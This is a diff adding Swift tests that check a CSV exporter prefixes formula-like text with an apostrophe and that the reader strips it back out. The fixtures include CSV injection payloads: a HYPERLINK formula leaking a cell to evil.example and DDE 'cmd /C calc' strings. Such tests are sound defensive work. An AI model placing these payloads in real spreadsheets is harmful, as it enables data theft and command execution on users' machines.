@@ -62,4 +62,49 @@ import Testing
         }
         #expect(try scratch.names().isEmpty)
     }
+
+    /// OWASP's CSV injection cases: text that Excel would run as a formula gets a leading `'`; numbers, the
+    /// placeholder `-` alone, and text with a trigger later in it are written as they are.
+    static let formulaCases: [(OutputCell, String)] = [
+        (.text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"), "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\""),
+        (.text("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0"),
+        (.text("@SUM(1+1)*cmd|' /C calc'!A0"), "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        (.text("-2+3"), "'-2+3"),
+        (.text("=1+1", bold: true), "'=1+1"),
+        (.text("\t=1+1"), "'\t=1+1"),
+        (.text("\r=1+1"), "\"'\r=1+1\""),
+        (.text("'=1+1"), "''=1+1"),
+        (.text("''-"), "'''-"),
+        (.text("-"), "-"),
+        (.text("'"), "'"),
+        (.text("a=1+1"), "a=1+1"),
+        (.text(" =1+1"), " =1+1"),
+        (.text("济南市=1"), "济南市=1"),
+        (.integer(-5), "-5"),
+        (.decimal("-12.5"), "-12.5"),
+        (.decimal("0.0001"), "0.0001"),
+        (.empty, ""),
+    ]
+
+    @Test func textThatExcelWouldRunAsAFormulaIsGuarded() throws {
+        let scratch = try Scratch()
+        let url = scratch.file("注入.csv")
+        let writer = try CSVWriter(url: url)
+        for (cell, _) in Self.formulaCases { try writer.appendRow([cell, .text("x")]) }
+        try writer.finish()
+        let text = String(decoding: [UInt8](try Data(contentsOf: url)).dropFirst(3), as: UTF8.self)
+        #expect(text == Self.formulaCases.map { $0.1 + ",x\r\n" }.joined())
+    }
+
+    /// The reader drops the guard again, so an export imports as it was.
+    @Test func guardedTextReadsBackAsItWas() throws {
+        let scratch = try Scratch()
+        let url = scratch.file("往返.csv")
+        let writer = try CSVWriter(url: url)
+        for (cell, _) in Self.formulaCases { try writer.appendRow([cell, .text("x")]) }
+        try writer.finish()
+        let rows = try records([UInt8](try Data(contentsOf: url)))
+        #expect(rows.map { $0.cells.first ?? nil } == Self.formulaCases.map { $0.0.csvText.isEmpty ? nil : $0.0.csvText })
+        #expect(try records("'=1,'x,''+,'-\n")[0].cells == ["=1", "'x", "'+", "-"])
+    }
 }
